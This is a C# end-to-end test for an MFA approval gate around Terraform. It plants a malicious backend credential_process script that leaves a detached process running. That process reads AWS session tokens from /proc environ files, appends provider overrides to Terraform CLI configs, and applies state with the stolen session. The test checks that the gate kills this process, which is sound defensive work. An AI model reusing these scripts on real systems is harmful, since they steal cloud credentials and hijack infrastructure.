using TfMfa.EndToEnd.Infrastructure;

namespace TfMfa.EndToEnd;

/// <summary>
/// Issue 18.1, attack first: code that runs before anyone gives a code must not survive into the
/// session the code unlocks. Under applies-only the apply's plan runs the commit's terraform with the
/// long-term keys; the S3 backend's <c>credential_process</c> (from <c>shared_config_files</c> in the
/// commit) runs then, and starts a detached process that waits for the terraform holding the MFA
/// session, reads the session from its <c>/proc/&lt;pid&gt;/environ</c>, and writes state no request
/// showed with it.
/// </summary>
public sealed class NothingOutlivesItsRunTests
{
    private const int Timeout = 240_000;

    /// <summary>The commit's attack: a backend profile whose credential_process leaves a lurker behind.</summary>
    internal static void PlantLurker(GateScenario scenario, string awsEndpoint)
    {
        var module = scenario.ModuleDirectory;
        var main = Path.Combine(module, "main.tf");
        File.WriteAllText(main, File.ReadAllText(main).Replace(
            "    region                      = \"us-east-1\"\n",
            "    region                      = \"us-east-1\"\n    profile                     = \"evil\"\n    shared_config_files         = [\"./evil.config\"]\n",
            StringComparison.Ordinal));
        Assert.Contains("profile", File.ReadAllText(main));
        File.WriteAllText(Path.Combine(module, "evil.config"), "[profile evil]\ncredential_process = sh ./evil.sh\n");
        // Hands the backend the credentials it was given, so nothing looks wrong; before any code, leaves a lurker.
        File.WriteAllText(Path.Combine(module, "evil.sh"), """
            #!/bin/sh
            if [ -z "$AWS_SESSION_TOKEN" ]; then
              setsid sh ./lurk.sh </dev/null >/dev/null 2>&1 &
              # And a provider of its own for the apply: dev_overrides in every CLI config it can reach.
              for rc in "$TF_CLI_CONFIG_FILE" "$HOME/.terraformrc" /github/home/.terraformrc; do
                [ -n "$rc" ] && printf 'provider_installation {\n  dev_overrides {\n    "hashicorp/evil" = "/tmp/evil"\n  }\n  direct {}\n}\n' >> "$rc" 2>/dev/null
              done
              printf '{"Version":1,"AccessKeyId":"%s","SecretAccessKey":"%s"}\n' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY"
            else
              printf '{"Version":1,"AccessKeyId":"%s","SecretAccessKey":"%s","SessionToken":"%s"}\n' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" "$AWS_SESSION_TOKEN"
            fi
            """.Replace("\r", "", StringComparison.Ordinal));
        // Waits for a process holding a session, takes it, and writes state the request never showed.
        File.WriteAllText(Path.Combine(module, "lurk.sh"), $$"""
            #!/bin/sh
            here="$(pwd)"
            i=0
            while [ $i -lt 3000 ]; do
              for f in $(grep -las 'AWS_SESSION_TOKEN=' /proc/[0-9]*/environ); do
                if [ -n "$f" ]; then
                  tr '\0' '\n' < "$f" | grep -E '^AWS_(ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN)=' > "$here/stolen.env"
                  d="$(mktemp -d)"
                  cat > "$d/main.tf" <<EOF
            terraform {
              backend "s3" {
                bucket                  = "{{scenario.Bucket.Name}}"
                key                     = "stolen/terraform.tfstate"
                region                  = "us-east-1"
                use_path_style          = true
                skip_metadata_api_check = true
                skip_region_validation  = true
                endpoints = {
                  s3  = "{{awsEndpoint}}"
                  sts = "{{awsEndpoint}}"
                }
              }
            }
            resource "terraform_data" "unseen" {}
            EOF
                  cd "$d" && env -u AWS_PROFILE $(cat "$here/stolen.env") HOME="$d" TF_DATA_DIR="$d/.terraform" \
                    sh -c 'terraform init -input=false && terraform apply -auto-approve -input=false' > "$here/lurker.log" 2>&1
                  exit 0
                fi
              done
              i=$((i + 1))
              sleep 0.05
            done
            """.Replace("\r", "", StringComparison.Ordinal));
    }

    /// <summary>Lurkers still alive on this machine (the container's are gone with it).</summary>
    private static List<int> LurkersOf(GateScenario scenario)
    {
        var found = new List<int>();
        foreach (var directory in Directory.EnumerateDirectories("/proc"))
        {
            if (!int.TryParse(Path.GetFileName(directory), out var pid)) continue;
            try
            {
                if (File.ReadAllText(Path.Combine(directory, "cmdline")).Contains("lurk.sh", StringComparison.Ordinal)
                    && File.ReadAllText(Path.Combine(directory, "environ")).Contains(scenario.Workspace, StringComparison.Ordinal))
                    found.Add(pid);
            }
            catch (IOException) { }
            catch (UnauthorizedAccessException) { }
        }
        return found;
    }

    /// <summary>Refused, or else a failure that shows the attack at work (what it stole and what it wrote).</summary>
    internal static async Task AssertNothingSurvivedAsync(GateScenario scenario, ActionResult run)
    {
        var stolen = Path.Combine(scenario.ModuleDirectory, "stolen.env");
        var lurkers = LurkersOf(scenario);
        if (File.Exists(stolen) || lurkers.Count > 0)
        {
            using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(60));
            while (!scenario.Bucket.Keys.Contains("stolen/terraform.tfstate") && LurkersOf(scenario).Count > 0 && !patience.IsCancellationRequested)
                await Task.Delay(100, CancellationToken.None);
            foreach (var pid in LurkersOf(scenario))
                try { System.Diagnostics.Process.GetProcessById(pid).Kill(entireProcessTree: true); } catch (ArgumentException) { }
            var session = scenario.Aws.IssuedSessions.Select(s => s.AccessKeyId).ToHashSet();
            var writes = scenario.S3Requests.Where(r => r.Operation.StartsWith("Put", StringComparison.Ordinal) && r.Resource?.Contains("stolen/", StringComparison.Ordinal) == true).ToList();
            Assert.Fail($"The attack worked: a process the plan's credential_process started outlived it (lurkers alive at the end: {lurkers.Count}), " +
                        $"stole the MFA session ({File.Exists(stolen)}), and wrote {writes.Count} object(s) under stolen/ " +
                        $"signed by the session key ({writes.Count(w => session.Contains(w.AccessKeyId ?? ""))}).\n{run}");
        }
        Assert.DoesNotContain("stolen/terraform.tfstate", scenario.Bucket.Keys);
    }

    [Fact(Timeout = Timeout)]
    public async Task A_process_the_plans_code_leaves_behind_is_killed_before_the_code_is_asked_for()
    {
        await using var scenario = await GateScenario.StartProductionAsync();
        scenario.WriteConfig("environments:\n  production:\n    level: applies-only\n");
        scenario.Inputs["command"] = "apply";
        PlantLurker(scenario, scenario.Aws.Endpoint);
        scenario.PersonAnswers("alice", $"/mfa {scenario.CurrentCode()}");

        var run = await scenario.RunAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        await AssertNothingSurvivedAsync(scenario, run);
        // The lurker may be caught as setsid, sh or sleep, depending on how far it got.
        var warnings = string.Join("\n", run.StandardOutput.Split('\n').Where(l => l.StartsWith("::warning::", StringComparison.Ordinal)));
        Assert.True(System.Text.RegularExpressions.Regex.IsMatch(warnings, @"^::warning::terraform init left \d+ process(es)? running \(pid \d+ \([\w.-]+\).*\): killed, so nothing the commit's code started lives on", System.Text.RegularExpressions.RegexOptions.Multiline), warnings);
        Assert.Contains("Apply complete! Resources: 1 added", run.StandardOutput);
        // The walls, said once: as root, terraform is not root.
        // A uid drawn for this run: another run's processes (other tests here) never share it.
        Assert.Matches(@"terraform runs as uid [2-5]\d{4}, not as TfMfa's root", run.StandardOutput);
        Assert.DoesNotContain("stolen", string.Join(",", scenario.S3Requests.Select(r => r.Resource)));
    }
}
